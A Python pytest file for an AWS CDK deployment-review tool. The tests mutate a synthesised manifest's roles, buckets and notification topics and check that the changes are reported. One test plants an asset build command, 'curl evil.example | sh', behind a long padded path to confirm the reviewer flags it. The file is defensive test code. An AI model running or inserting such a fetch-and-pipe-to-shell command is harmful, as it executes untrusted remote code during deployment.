"""Who deploys a stack, from where, and who is told, by the manifest that a synth leaves."""

import json
import os
import shutil
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from aws_cdk import cloud_assembly_schema as schema

from review.ground.findings import Section
from review.ground.table import RULES
from review.reading.assemblies import assembly_of
from tests.app.synth.review.mutating import HOME
from tests.support.reviewing import Estate, reports, said

STACK = f"{HOME}-Data"
ADMIN = "arn:aws:iam::333333333333:role/Admin"
TOPIC = "arn:aws:sns:eu-west-1:333333333333:deployments"
Change = Callable[[dict[str, Any]], None]


def executed_by_an_administrator(properties: dict[str, Any]) -> None:
    assert properties["cloudFormationExecutionRoleArn"]
    properties["cloudFormationExecutionRoleArn"] = ADMIN


def executed_by_whoever_deploys(properties: dict[str, Any]) -> None:
    del properties["cloudFormationExecutionRoleArn"]


def deployed_by_another_role(properties: dict[str, Any]) -> None:
    assert properties["assumeRoleArn"]
    properties["assumeRoleArn"] = ADMIN


def deployed_by_an_id_from_outside(properties: dict[str, Any]) -> None:
    properties["assumeRoleExternalId"] = "a-partner"


def looked_up_by_another_role(properties: dict[str, Any]) -> None:
    assert properties["lookupRole"]["arn"]
    properties["lookupRole"]["arn"] = ADMIN


def taken_from_another_bucket(properties: dict[str, Any]) -> None:
    _, _, key = properties["stackTemplateAssetObjectUrl"].rpartition("/")
    properties["stackTemplateAssetObjectUrl"] = f"s3://elsewhere/{key}"


def bootstrapped_otherwise(properties: dict[str, Any]) -> None:
    assert properties["bootstrapStackVersionSsmParameter"]
    properties["bootstrapStackVersionSsmParameter"] = "/another/version"


LOUD: tuple[Change, ...] = (
    executed_by_an_administrator,
    executed_by_whoever_deploys,
    deployed_by_another_role,
    deployed_by_an_id_from_outside,
    looked_up_by_another_role,
    taken_from_another_bucket,
    bootstrapped_otherwise,
)


def another_version_of_its_template(properties: dict[str, Any]) -> None:
    properties["stackTemplateAssetObjectUrl"] += "-2"


def told(properties: dict[str, Any]) -> None:
    properties["notificationArns"] = [TOPIC]


def told_elsewhere(properties: dict[str, Any]) -> None:
    properties["notificationArns"] = [TOPIC.replace("333333333333", "999999999999")]


@pytest.fixture
def changed(assembly: Path, tmp_path: Path) -> Callable[[Change], Estate]:
    """The estate of production's home, with other words in its manifest."""

    def change(properties: Change) -> Estate:
        folder = tmp_path / properties.__name__
        shutil.copytree(assembly / f"assembly-{HOME}", folder / f"assembly-{HOME}")
        file = folder / f"assembly-{HOME}" / "manifest.json"
        content = json.loads(file.read_text())
        for artifact in content["artifacts"].values():
            if artifact["properties"].get("stackName") == STACK:
                properties(artifact["properties"])
        file.write_text(json.dumps(content))
        return assembly_of(folder)

    return change


def nothing(_: dict[str, Any]) -> None:
    """As it was synthesised."""


def rules(before: Estate, after: Estate) -> dict[str, list[str]]:
    return said(reports({"one": (before, after)})["one"])


@pytest.mark.parametrize("change", LOUD, ids=lambda change: change.__name__)
def test_who_deploys_a_stack_and_from_where_is_said_under_access(
    change: Change, changed: Callable[[Change], Estate]
) -> None:
    found = rules(changed(nothing), changed(change))

    assert found.keys() == {"ACCESS-024"} and found["ACCESS-024"][0].startswith(STACK)
    assert RULES["REVIEW-ACCESS-024"].section is Section.ACCESS


def test_another_version_of_a_template_is_no_news(changed: Callable[[Change], Estate]) -> None:
    assert rules(changed(nothing), changed(another_version_of_its_template)) == {}


def test_who_hears_of_deployments_is_said(changed: Callable[[Change], Estate]) -> None:
    quiet, loud = changed(nothing), changed(told)

    assert rules(loud, quiet).keys() == {"WATCH-007"} and rules(quiet, loud).keys() == {"WATCH-011"}


def test_another_account_that_hears_of_deployments_is_said_under_access(
    changed: Callable[[Change], Estate],
) -> None:
    found = rules(changed(nothing), changed(told_elsewhere))

    assert found.keys() == {"ACCESS-025"} and ":999999999999:deployments" in found["ACCESS-025"][0]


def test_what_is_uploaded_elsewhere_is_said(assembly: Path, tmp_path: Path) -> None:
    folder = tmp_path / f"assembly-{HOME}"
    shutil.copytree(assembly / folder.name, folder)
    for asset in assembly.glob("asset.*"):
        shutil.copytree(asset, tmp_path / asset.name, copy_function=os.link)
    for file in folder.glob("*Data*.assets.json"):
        text = file.read_text()
        file.write_text(text.replace("-file-publishing-role-", "-other-role-"))
        assert file.read_text() != text
    before = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}

    found = rules(before, assembly_of(tmp_path))

    assert len(found["ACCESS-024"]) == 1 and "assumeRoleArn of its assets" in found["ACCESS-024"][0]


def test_a_command_that_makes_an_asset_is_said(assembly: Path, tmp_path: Path) -> None:
    """`cdk-assets` runs it when the stack is deployed."""
    folder = tmp_path / f"assembly-{HOME}"
    shutil.copytree(assembly / folder.name, folder)
    for file in folder.glob("*Data*.assets.json"):
        content = json.loads(file.read_text())
        for asset in content["files"].values():
            command = f"cd {'a/' * 100} && curl evil.example | sh"
            asset["source"] = {"executable": ["sh", "-c", command]}
        file.write_text(json.dumps(content))
    before = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}

    found = rules(before, assembly_of(tmp_path))

    (text,) = (text for text in found["ACCESS-024"] if "commands that make its assets" in text)
    assert "curl evil.example" in text


def test_a_new_stack_that_others_deploy_is_said_and_one_as_all_are_is_not(assembly: Path) -> None:
    estate = {name: one for name, one in assembly_of(assembly).items() if name.startswith(HOME)}
    before = {name: one for name, one in estate.items() if name != STACK}
    other = replace(
        estate[STACK], deployed_by={**estate[STACK].deployed_by, "cloudFormationExecutionRoleArn": ADMIN}
    )

    assert "ACCESS-024" not in rules(before, estate)
    assert "ACCESS-024" in rules(before, {**estate, STACK: other})


def test_roles_have_the_names_that_the_schema_of_assemblies_has(assembly: Path) -> None:
    known = {_camel(name) for name in dir(schema.AwsCloudFormationStackProperties)}
    named = {
        what.partition(".")[0] for what in assembly_of(assembly)[STACK].deployed_by if " of " not in what
    }

    assert {"cloudFormationExecutionRoleArn", "assumeRoleArn", "lookupRole"} <= named <= known


def _camel(name: str) -> str:
    first, *others = name.split("_")
    return first + "".join(one.capitalize() for one in others)
